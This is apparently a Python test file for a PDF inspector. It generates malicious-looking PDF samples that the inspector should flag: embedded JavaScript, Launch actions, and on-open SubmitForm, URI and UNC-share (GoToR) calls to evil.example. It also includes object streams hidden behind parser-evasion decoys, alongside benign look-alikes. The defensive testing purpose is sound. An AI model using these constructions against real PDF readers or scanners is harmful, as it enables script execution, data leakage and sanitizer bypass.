"""PDF files in which what acts is hidden where an inspection might not look, and harmless ones that look a little like them."""

import zlib
from binascii import hexlify
from collections.abc import Iterator

from application.ports import Unfit
from tests.support.papers import objects, pdf, stream

Case = tuple[str, bytes, Unfit]
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
HEXED = hexlify(b"20 0 " + SCRIPT) + b">"
SAYS_SO = "/Type/ObjStm/N 1/First 5"
HEX = "/Filter/ASCIIHexDecode"
# For a reader of deflated bytes it holds a number and no more, for one of hexadecimal digits all of them.
BOTH = zlib.compress(b"20 0 1") + HEXED


def told(dictionary: str, data: bytes = HEXED) -> bytes:
    return f"<<{dictionary}/Length {len(data)}>>\nstream\n".encode("latin-1") + data + b"\nendstream"


def behind_a_decoy() -> Iterator[tuple[str, bytes]]:
    yield "in a text", told(f"{SAYS_SO}/X(stream){HEX}")
    yield "in a text with its own parentheses", told(f"{SAYS_SO}/X(a(>>stream\n)\\)){HEX}")
    yield "in a text in which an object begins", told(f"{SAYS_SO}{HEX}/X(\n6 0 obj<<>>stream\n)")
    yield "in a comment", told(f"{SAYS_SO}%>>stream\n{HEX}")
    yield "in a comment that ends another object", told(f"{HEX}%>>stream endstream endobj\n{SAYS_SO}/X/FlateDecode")
    yield "in a name", told(f"{SAYS_SO}{HEX}/X/stream").replace(b"\nstream", b"stream", 1)
    yield "of an end in a name", told(f"{HEX}/X/endobj{SAYS_SO}/Filter/FlateDecode", BOTH)
    yield "before what says so", told(f"{HEX}/X(stream){SAYS_SO}")
    yield "and no type", told(f"/N 1/First 5/X(stream){HEX}")
    yield "and no type, told elsewhere", told(f"/N 6 0 R/X(stream)/First 7 0 R{HEX}")
    yield "and numbers for letters", told("/Type/#4fbjStm/N 1/X(stream)/Fir#73t 5/F#69lter/ASCIIHexDecode")
    yield "and far behind it", told(f"{SAYS_SO}/X<{'00' * 2**16}>{HEX}")
    yield "and too far behind it", told(f"{SAYS_SO}/X<{'00' * 2**20}>{HEX}")
    yield "and a text without end", told(f"{SAYS_SO}{HEX}/X(")


def oddly_packed() -> Iterator[tuple[str, bytes]]:
    yield "not at all", told(SAYS_SO, b"20 1 (/JavaScript)")
    yield "in two ways, one behind a comment", told(f"{HEX}%endstream endobj 6 0 obj<<\n{SAYS_SO}/Filter/FlateDecode", BOTH)
    yield "in two ways, one by its short name", told(f"/F/AHx{SAYS_SO}/Filter/FlateDecode", BOTH)
    yield "as pictures are", told(f"{SAYS_SO}/Filter/CCITTFaxDecode")
    yield "by rules told elsewhere", objects("<</A 1>>", told="/DecodeParms 7 0 R")
    yield "by rules told elsewhere, by a short name", objects("<</A 1>>", told="/DP[7 0 R]")
    yield "in another file", objects("<</A 1>>", told="/F<</F(a.bin)>>")
    yield "without a stream", b"/ObjStm"


def acting() -> Iterator[tuple[str, bytes]]:
    yield "a script in hexadecimal digits", pdf("<</S 6 0 R/JS<6170702e616c657274283129>>>")
    yield "a script in wide letters", pdf("<</S 6 0 R/JS(\xfe\xff\0a\0(\0)\0)>>")
    yield "a script of a model", pdf("<</Type/3D/Subtype/U3D/OnInstantiate 5 0 R>>")
    yield "a form that is sent off when it is opened", pdf(catalog="/OpenAction<</S/SubmitForm/F(http://evil.example/x)>>")
    yield "a film as an action", pdf("<</S /Mo#76ie/T(a)>>")
    yield "a film on a page", pdf("<</Subtype/Movie/Rect[0 0 9 9]>>")
    yield "a film that is told elsewhere", pdf(objects("<</Subtype 6 0 R/Movie 7 0 R>>"))
    yield "a program where two windows meet", pdf("a" * (2**17 - 300) + "<</S/Launch>>")


def loading() -> Iterator[tuple[str, bytes]]:
    yield "a stream from elsewhere", pdf(told("/F<</FS/URL/F(http://evil.example/x)>>", b""))
    yield "a stream from elsewhere, in numbers", pdf(told("/F<</FS /#55RL/F(http://evil.example/x)>>", b""))
    yield "a page that it opens", pdf(catalog="/OpenAction<</S/URI/URI(http://evil.example/)>>")
    yield "a share that it opens", pdf(catalog="/OpenAction <</Type/Action /S /GoToR/F(\\\\\\\\evil.example\\\\s\\\\a.pdf)/D[0/Fit]>>")
    yield "a page that it opens, among packed objects", pdf(objects("<</Type/Catalog/OpenAction<</S/URI/URI(http://evil.example/)>>>>"))


def cases() -> Iterator[Case]:
    yield from ((f"objects behind a decoy {what}", pdf(one, catalog="/OpenAction 20 0 R"), Unfit.DAMAGED) for what, one in behind_a_decoy())
    yield from ((f"objects packed {what}", pdf(one, catalog="/OpenAction 20 0 R"), Unfit.DAMAGED) for what, one in oddly_packed())
    yield from ((f"a PDF with {what}", content, Unfit.ACTIVE_CONTENT) for what, content in acting())
    yield from ((f"a PDF that loads {what}", content, Unfit.LOADS_FROM_ELSEWHERE) for what, content in loading())


def packed_by(program: str) -> bytes:
    """The same objects, told of as the program does."""
    data = zlib.compress(b"20 0 <</Type/Font>>")
    return program.format(length=len(data)).encode() + data + b"\r\nendstream"


def packed_by_programs() -> Iterator[tuple[str, bytes]]:
    yield "Word", packed_by("<</Type/ObjStm/N 1/First 5/Filter/FlateDecode/Length {length}>>\r\nstream\r\n")
    yield "Acrobat", packed_by("<</Filter/FlateDecode/First 5/Length {length}/N 1/Type/ObjStm>>stream\r\n")
    yield "pdfTeX", packed_by("<<\n/Type /ObjStm\n/N 1\n/First 5\n/Length {length}      \n/Filter /FlateDecode\n>>\nstream\n")
    yield "qpdf", packed_by("<< /Type /ObjStm /Length {length} /N 1 /First 5 /Filter /FlateDecode >>\nstream\n")
    yield "PDFBox", packed_by("<<\n/Length {length}\n/N 1\n/Type /ObjStm\n/Filter [/FlateDecode]\n/First 5\n>>\nstream\r\n")
    yield "iText", packed_by("<</Type/ObjStm/N 1/First 5/Extends 9 0 R/Length 8 0 R/Filter/FlateDecode>>stream\n")


def harmless() -> Iterator[tuple[str, bytes]]:
    yield from ((f"of objects packed by {program}", pdf(one)) for program, one in packed_by_programs())
    table = stream(bytes(20), "/Type/XRef/ID[(a\\)b)(c)]/W[1 2 1]/DecodeParms<</Columns 4/Predictor 12>>")
    chapters = "<</Title(Streams (and /First steps\\))/Parent 5 0 R/First 6 0 R/Last 6 0 R/Count 1>>".replace("\\)", ")")
    yield "of chapters, pictures by columns and packed objects", pdf(chapters, "<</AP<</N 7 0 R>>>>", table, objects("<</A 1>>"), table)
    letters = told("/Filter[/ASCII85Decode/FlateDecode]", b'Gb"0;0`_7S~>')
    yield (
        "of streams in letters beside packed objects",
        pdf(letters, objects("<</A 1>>"), letters, told("/Filter/LZWDecode", b"\x80\x0b\x60")),
    )
    fax = b"BI /W 8/H 8/F/CCF/DP<</K -1/Columns 8>> ID \x26\xa0((\xff\x80\nEI"
    yield "of letters as pictures and packed objects", pdf(told("", fax), told("", fax.replace(b"/F/", b"/Filter/")), objects("<</A 1>>"))
    yield "of pages that speak of streams", pdf(told("", b"BT (go downstream) Tj (stream\n/First things) Tj ET"), objects("<</A 1>>"))
    signed = "<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 9 19 9]/Contents<" + "00" * 2**17 + ">>>"
    yield "that is signed at length, with packed objects", pdf(signed, objects("<</A 1>>"))
    yield "of a link where two windows meet", pdf("a" * (2**17 - 400) + "(https://developer.example/" + "a" * 300 + "/Launch)")
    yield (
        "with a link to another file and to a film",
        pdf("<</S/GoToR/F(a.pdf)/D[0/Fit]>>", objects("<</URI(https://schema.example/Movie)>>")),
    )
    yield "that opens on a page, by an action", pdf("<</S/URI/URI(a)>>", catalog="/OpenAction<</S/GoTo/D[3 0 R/Fit]>>/X<</S/URI>>")
